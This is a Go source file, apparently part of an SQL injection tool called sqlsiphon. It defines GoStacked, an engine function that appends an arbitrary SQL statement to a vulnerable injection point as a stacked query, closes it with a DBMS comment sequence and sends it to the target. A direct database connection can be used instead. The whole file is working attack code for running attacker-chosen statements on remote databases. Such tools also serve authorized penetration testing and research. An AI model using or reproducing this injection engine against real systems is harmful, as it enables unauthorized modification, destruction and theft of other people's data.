package engine

import (
	"context"
	"fmt"

	"github.com/0x6d61/sqlsiphon/internal/payload"
	"github.com/0x6d61/sqlsiphon/internal/request"
	"github.com/0x6d61/sqlsiphon/internal/sqlexpr"
	"github.com/0x6d61/sqlsiphon/internal/technique"
)

// GoStacked appends expression to the injection point as a stacked
// statement and sends it once. The statement's output is not read back; the
// returned page is whatever the target answered.
//
// With a direct connection the statement runs there and no payload or page
// is returned.
func (e *Engine) GoStacked(ctx context.Context, expression string) (*payload.Payload, *request.Page, error) {
	if e.direct != nil {
		if _, err := e.direct.Query(ctx, expression); err != nil {
			return nil, nil, fmt.Errorf("engine: direct: %w", err)
		}
		return nil, nil, nil
	}

	v := e.point.Vector(technique.Stacked)
	if v == nil {
		for _, t := range e.point.Techniques() {
			v = e.point.Vector(t)
			break
		}
	}
	if v == nil {
		return nil, nil, ErrNotVulnerable
	}

	q := e.agent.PrefixQuery(v, "; "+sqlexpr.Clean(expression))
	s := q + ";"
	if v.Suffix == "" && e.dbms != nil {
		s += e.dbms.CommentSequence()
	}
	p := e.agent.Raw(technique.Stacked, e.agent.SuffixQuery(v, s))
	e.logger.Debug("stacked query", "payload", p.Query)

	page, err := e.req.QueryPage(ctx, p.Value, request.Options{})
	if err != nil {
		return p, nil, fmt.Errorf("engine: stacked query: %w", err)
	}
	return p, page, nil
}
